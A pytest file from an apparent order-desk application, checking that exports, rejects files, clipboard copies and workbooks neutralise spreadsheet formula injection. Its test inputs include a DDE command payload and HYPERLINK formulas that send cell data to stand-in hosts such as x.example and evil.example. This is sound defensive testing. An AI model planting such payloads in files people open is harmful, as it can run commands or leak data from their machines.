"""A22: a text that a spreadsheet would run as a formula is a text in every file that leaves the desk."""

from __future__ import annotations

import ast
import csv
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from PySide6.QtCore import QItemSelection, QItemSelectionModel
from pytestqt.qtbot import QtBot

from orderdesk.intake.files.exporting import Cell, write_table
from orderdesk.intake.files.mapping import Mapping
from orderdesk.intake.files.reading import read_file
from orderdesk.intake.files.rejects import rejects_text
from orderdesk.intake.files.taking import take_file
from orderdesk.intake.rules.workbook import write_workbook
from orderdesk.rules.tables import read_table
from orderdesk.ui.tables.columns import Column
from orderdesk.ui.tables.copying import copied
from orderdesk.ui.tables.grid_view import GridView
from orderdesk.ui.tables.rows_model import RowsModel
from tests.architecture.sources import modules, name_of, tree_of
from tests.support.desk import SampleDesk

STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
PAYLOADS = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"go")', "SUM(1,1)*2")
HOSTILE = [start + payload for start in STARTS for payload in PAYLOADS] + [" =1+1", "\n=1+1", "'=1+1"]
# Only here is a file for spreadsheets written; all neutralise.
WRITING = {"csv.writer", "csv.DictWriter", "workbook.create_sheet", "openpyxl.Workbook"}
WRITERS = {
    "orderdesk/intake/files/exporting.py",
    "orderdesk/intake/files/rejects.py",
    "orderdesk/intake/rules/workbook.py",
}


def runs(cell: str) -> bool:
    """Whether a spreadsheet that reads this cell of a CSV file would take it for a formula.

    Written down from what spreadsheets do, not from our own rule: the sign counts also behind blanks, control
    signs and in its full width. A plain figure is a figure.
    """
    bare = cell.lstrip(" \t\r\n\0")
    try:
        Decimal(bare)
    except ArithmeticError:
        return bare[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n\0")
    return False


def formulas_of_csv(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row if runs(cell)]


def formulas_of_workbook(path: Path) -> list[object]:
    book = load_workbook(path)
    return [
        cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    ]


def test_a22_the_check_itself_knows_a_formula() -> None:
    assert all(runs(text) for text in HOSTILE if not text.startswith("'"))
    assert not any(runs(text) for text in ("'=1+1", "-12.50", "+3", "A105", "", "0021"))


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a22_no_cell_of_an_export_is_a_formula_when_it_is_read_again(tmp_path: Path, name: str) -> None:
    rows: list[Sequence[Cell]] = [(text, Decimal("-1.5"), date(2026, 3, 9), 7) for text in HOSTILE]
    path = tmp_path / name
    write_table(path, HOSTILE[:4], rows)
    if path.suffix == ".csv":
        assert formulas_of_csv(path) == []
    else:
        assert formulas_of_workbook(path) == []
        [sheet] = load_workbook(path).worksheets
        kept = [_flat(row[0].value) for row in sheet.iter_rows(min_row=2)]
        assert kept == [_flat(text) for text in HOSTILE]


def test_a22_rejects_of_an_import_run_nothing_either(sample: SampleDesk, tmp_path: Path) -> None:
    path = tmp_path / "customers.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        table = csv.writer(file)
        table.writerow(["code", "name", "credit limit"])
        table.writerows([f"Z{at}", text, "=1+1"] for at, text in enumerate(HOSTILE) if "\0" not in text)
    read = read_file(path)
    _table, done = take_file(path, "customers", Mapping(), sample.store, None)
    assert len(done.rejected) == len(read.rows)
    written = rejects_text(read, done, "=Reason", lambda finding: f"={finding.problem.code}")
    out = tmp_path / "rejects.csv"
    out.write_text(written, encoding="utf-8-sig", newline="")
    assert formulas_of_csv(out) == []


@dataclass(frozen=True)
class Named:
    """A row of a list with a hostile name."""

    id: int
    name: str


def test_a22_cells_on_the_clipboard_run_nothing_in_the_sheet_they_are_pasted_into(qtbot: QtBot) -> None:
    columns = [Column(key, "ui.area.desk", lambda row: row.name) for key in ("name", "again")]
    model = RowsModel(columns)
    view = GridView(model, name="a22")
    qtbot.addWidget(view)
    texts = [text for text in HOSTILE if "\0" not in text]
    model.show_rows([Named(at, text) for at, text in enumerate(texts)])
    every = QItemSelection(model.index(0, 0), model.index(len(texts) - 1, len(columns) - 1))
    view.selectionModel().select(every, QItemSelectionModel.SelectionFlag.Select)
    data = copied(view, model, with_headers=False)
    assert data is not None
    lines = data.text().splitlines()
    assert len(lines) >= len(texts)
    assert [cell for line in lines for cell in line.split("\t") if runs(cell)] == []


def test_a22_files_for_spreadsheets_are_written_in_three_places_only() -> None:
    found = set()
    for path in modules():
        for node in ast.walk(tree_of(path)):
            if isinstance(node, ast.Attribute) and ast.unparse(node) in WRITING:
                found.add(name_of(path))
    assert found == WRITERS


def test_a22_a_rule_table_in_a_workbook_is_text_whatever_it_begins_with(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example","click")'
    table = read_table(
        {
            "format": 1, "name": "evil", "version": 1, "hit_policy": "first",
            "inputs": [{"fact": "tier", "type": "text"}], "outputs": [{"name": "role", "type": "text"}],
            "rows": [{"when": {"tier": "= x"}, "then": {"role": hostile}, "note": hostile}],
        }
    )  # fmt: skip
    write_workbook(tmp_path / "evil.xlsx", table)
    book = load_workbook(tmp_path / "evil.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert hostile in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.quotePrefix for cell in cells if cell.value is not None)


def _flat(text: object) -> str:
    """Return a text without what XML cannot hold, whatever became of its ends of lines."""
    return str(text).translate({0: None, 10: " ", 13: " "})
